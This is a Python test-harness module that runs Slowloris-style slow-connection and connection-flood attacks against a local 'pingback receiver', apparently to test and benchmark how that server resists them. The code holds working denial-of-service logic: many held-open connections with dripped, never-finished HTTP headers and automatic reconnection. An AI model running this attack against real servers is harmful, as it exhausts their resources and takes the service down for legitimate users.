"""Hostile clients for the pingback receiver's tests and benchmark: slow connections and
connection floods from many addresses.

Each *crowd* keeps ``count`` connections open to the target from one source address or a
range of them (on Linux every 127.0.0.0/8 address is the loopback, so ``127.0.0.2``,
``127.0.0.3`` ... are distinct clients with no set-up).  A connection sends the start of a
request, then one more header line every ``--drip`` seconds and never finishes it
(``--silent``: sends nothing at all); one the server closes is opened again after
``--pause`` seconds, so a server that refuses or times out connections also gets a
steady flood of new ones::

    python -m harness.slowloris 127.0.0.1:8766 \\
        --crowd 127.0.0.2=600 --crowd 127.0.0.3-42=10

Prints a JSON line of counts per crowd every ``--every`` seconds and a last one when
stopped (SIGTERM or Ctrl-C): ``open`` now, ``max_open``, ``opened``, ``closed`` (by the
server) and ``failed`` (connects that failed: refused, or reset by the server before the
attacker saw them complete).
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import signal
import subprocess
import sys
import threading
from dataclasses import asdict, dataclass
from ipaddress import IPv4Address
from pathlib import Path
from typing import Any

HEAD = b"GET /captcha/pingback/slow HTTP/1.1\r\nHost: receiver\r\n"
DRIP = b"X-Slow: 1\r\n"


@dataclass
class Counts:
    open: int = 0
    max_open: int = 0
    opened: int = 0
    closed: int = 0
    failed: int = 0


@dataclass(frozen=True)
class Crowd:
    """``count`` connections from each address of ``first`` to ``last``."""

    label: str
    sources: tuple[str, ...]
    count: int


def parse_crowd(text: str) -> Crowd:
    """``127.0.0.2=600`` or ``127.0.0.3-42=10`` (the last byte as a range)."""
    spec, _, count = text.partition("=")
    first, _, last = spec.partition("-")
    start = IPv4Address(first)
    end = IPv4Address(f"{first.rpartition('.')[0]}.{last}") if last else start
    sources = tuple(str(IPv4Address(n)) for n in range(int(start), int(end) + 1))
    return Crowd(spec, sources, int(count))


@dataclass(frozen=True)
class Pace:
    drip: float
    pause: float
    silent: bool


async def hold(
    host: str, port: int, source: str, counts: Counts, pace: Pace, stop: asyncio.Event
) -> None:
    """Keep one slow connection from ``source`` open, opening it again when closed."""
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection(host, port, local_addr=(source, 0))
        except OSError:
            counts.failed += 1
            await asyncio.sleep(pace.pause)
            continue
        counts.opened += 1
        counts.open += 1
        counts.max_open = max(counts.max_open, counts.open)
        try:
            await _linger(reader, writer, pace, stop)
        finally:
            counts.open -= 1
            counts.closed += 1
            writer.transport.abort()
        await asyncio.sleep(pace.pause)


async def _linger(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, pace: Pace, stop: asyncio.Event
) -> None:
    if not pace.silent:
        writer.write(HEAD)
    while not stop.is_set():
        try:
            # asyncio.timeout, not wait_for: Python 3.11's wait_for can swallow a cancel
            async with asyncio.timeout(pace.drip):
                await reader.read(4096)  # whatever comes (an answer, EOF) ends it
            return
        except TimeoutError:
            if not pace.silent:
                writer.write(DRIP)
        except OSError:
            return


def _raise_open_files(needed: int) -> None:
    with contextlib.suppress(ImportError, ValueError, OSError):
        import resource

        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        if soft != resource.RLIM_INFINITY and soft < needed:
            target = needed if hard == resource.RLIM_INFINITY else min(needed, hard)
            resource.setrlimit(resource.RLIMIT_NOFILE, (target, hard))


async def run(args: argparse.Namespace) -> None:
    host, _, port = args.target.rpartition(":")
    crowds = [parse_crowd(c) for c in args.crowd]
    _raise_open_files(sum(len(c.sources) * c.count for c in crowds) + 256)
    counts = {c.label: Counts() for c in crowds}
    pace = Pace(args.drip, args.pause, args.silent)
    stop = asyncio.Event()
    tasks = [
        asyncio.create_task(hold(host, int(port), source, counts[c.label], pace, stop))
        for c in crowds
        for source in c.sources
        for _ in range(c.count)
    ]
    loop = asyncio.get_running_loop()
    for sig in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(sig, stop.set)

    def report() -> None:
        print(json.dumps({k: asdict(v) for k, v in counts.items()}), flush=True)

    while not stop.is_set():
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(args.every):
                await stop.wait()
        report()
    for task in tasks:
        task.cancel()
    await asyncio.wait(tasks)


class Attack:
    """This module's attack in a process of its own (so its work does not slow the caller),
    with its latest counts in :attr:`last`: ``Attack(port, "127.0.0.2=600", ...)``."""

    def __init__(self, port: int, *crowds: str, host: str = "127.0.0.1") -> None:
        argv = [sys.executable, "-m", __name__, f"{host}:{port}"]
        for crowd in crowds:
            argv += ["--crowd", crowd]
        # From the repository's root, where ``python -m harness.slowloris`` finds it.
        root = Path(__file__).resolve().parents[1]
        self.proc = subprocess.Popen(argv, stdout=subprocess.PIPE, text=True, cwd=root)
        self.last: dict[str, Any] = {}
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    def _read(self) -> None:
        assert self.proc.stdout is not None
        for line in self.proc.stdout:
            self.last = json.loads(line)

    def stop(self) -> dict[str, Any]:
        """Stop the attack; its last counts."""
        self.proc.terminate()
        try:
            self.proc.wait(15)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait(5)
            raise
        finally:
            self._reader.join(5)
        return self.last


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("target", help="host:port")
    parser.add_argument("--crowd", action="append", required=True, help="SOURCE[-LAST]=COUNT")
    parser.add_argument("--drip", type=float, default=1.0, help="seconds between header lines")
    parser.add_argument("--pause", type=float, default=0.5, help="seconds before reconnecting")
    parser.add_argument("--silent", action="store_true", help="send nothing at all")
    parser.add_argument("--every", type=float, default=0.5, help="seconds between reports")
    asyncio.run(run(parser.parse_args(argv)))


if __name__ == "__main__":
    main()
